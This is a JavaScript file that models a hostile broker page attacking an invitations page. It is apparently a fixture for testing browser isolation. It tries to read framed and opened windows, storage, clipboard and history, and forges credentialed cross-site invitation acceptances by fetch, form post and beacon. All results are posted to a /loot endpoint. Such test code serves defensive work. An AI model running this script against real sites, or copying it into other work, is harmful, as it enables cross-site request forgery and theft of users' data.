// What a page of a hostile broker tries against the page for invitations at `target`; and all of it goes to /loot.

const heard = [];
addEventListener("message", (event) => heard.push(String(event.data)));
new BroadcastChannel("dispatch").onmessage = (event) => heard.push(String(event.data));

const tell = (value) => fetch("/loot", { method: "POST", body: JSON.stringify(value) });
const attempt = async (work) => {
  try {
    return String(await work());
  } catch (error) {
    return `refused: ${error.name}`;
  }
};

const own = () => [location.href, document.referrer, window.name, JSON.stringify(history.state), document.cookie];
tell(own());

/** Get hold of the other page before anything is pasted there: a window of it, and a frame. */
async function begin(target) {
  await attempt(() => navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready));
  window.frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { src: `${target}/invitations` }));
  window.victim = window.open(`${target}/invitations`, "victim");
}

/** Look for what was pasted there, in every way that a page has. */
async function loot(target, token) {
  const inside = (view) => {
    const page = view.document;
    return [view.location.href, page.body.innerText, ...[...page.querySelectorAll("input")].map((each) => each.value)];
  };
  const include = { credentials: "include" };
  const scope = { token, tools: "Read", confirm_unverified: true };
  const posting = { method: "POST", body: JSON.stringify(scope), ...include };
  const form = () => {
    const into = document.body.appendChild(Object.assign(document.createElement("iframe"), { name: "answer" }));
    const made = document.createElement("form");
    Object.assign(made, { method: "post", action: `${target}/v1/invitations/accept`, target: into.name, enctype: "text/plain" });
    document.body.append(made);
    const shown = new Promise((resolve) => { into.onload = resolve; });
    made.submit();
    return shown.then(() => into.contentDocument.body.innerText);
  };
  const found = {
    "its own address": await attempt(own),
    "who opened it": await attempt(() => opener.location.href),
    "address of the window": await attempt(() => victim.location.href),
    "text of the window": await attempt(() => inside(victim)),
    "text of the frame": await attempt(() => inside(frame.contentWindow)),
    "name of the window": await attempt(() => victim.name),
    "its history": await attempt(() => JSON.stringify(victim.history.state) + victim.history.length),
    "a question to the window": await attempt(() => { victim.postMessage("address?", "*"); return heard; }),
    "its list": await attempt(() => fetch(`${target}/v1/invitations`, include).then((answer) => answer.text())),
    "its list, with a key": await attempt(() =>
      fetch(`${target}/v1/invitations`, { ...include, headers: { "x-dispatch-page": "guess" } }).then((answer) => answer.text())),
    "its list, blindly": await attempt(() => fetch(`${target}/v1/invitations`, { ...include, mode: "no-cors" }).then((answer) => answer.type)),
    "its storage": await attempt(() => victim.localStorage.length + JSON.stringify(victim.localStorage)),
    "its worker": await attempt(() => navigator.serviceWorker.register(`${target}/worker.js`).then(() => "registered")),
    "an acceptance": await attempt(() => fetch(`${target}/v1/invitations/accept`, posting).then((answer) => answer.text())),
    "an acceptance, blindly": await attempt(() =>
      fetch(`${target}/v1/invitations/accept`, { ...posting, mode: "no-cors" }).then((answer) => answer.type)),
    "an acceptance by a form": await attempt(form),
    "an acceptance by a beacon": await attempt(() => navigator.sendBeacon(`${target}/v1/invitations/accept`, JSON.stringify(scope))),
    "what was copied": await attempt(() => navigator.clipboard.readText()),
    "links of dispatch": await attempt(() => navigator.registerProtocolHandler("dispatch", `${location.origin}/loot?%s`)),
    "requests that it saw": await attempt(() => performance.getEntries().map((entry) => entry.name)),
  };
  await tell(found);
  return found;
}
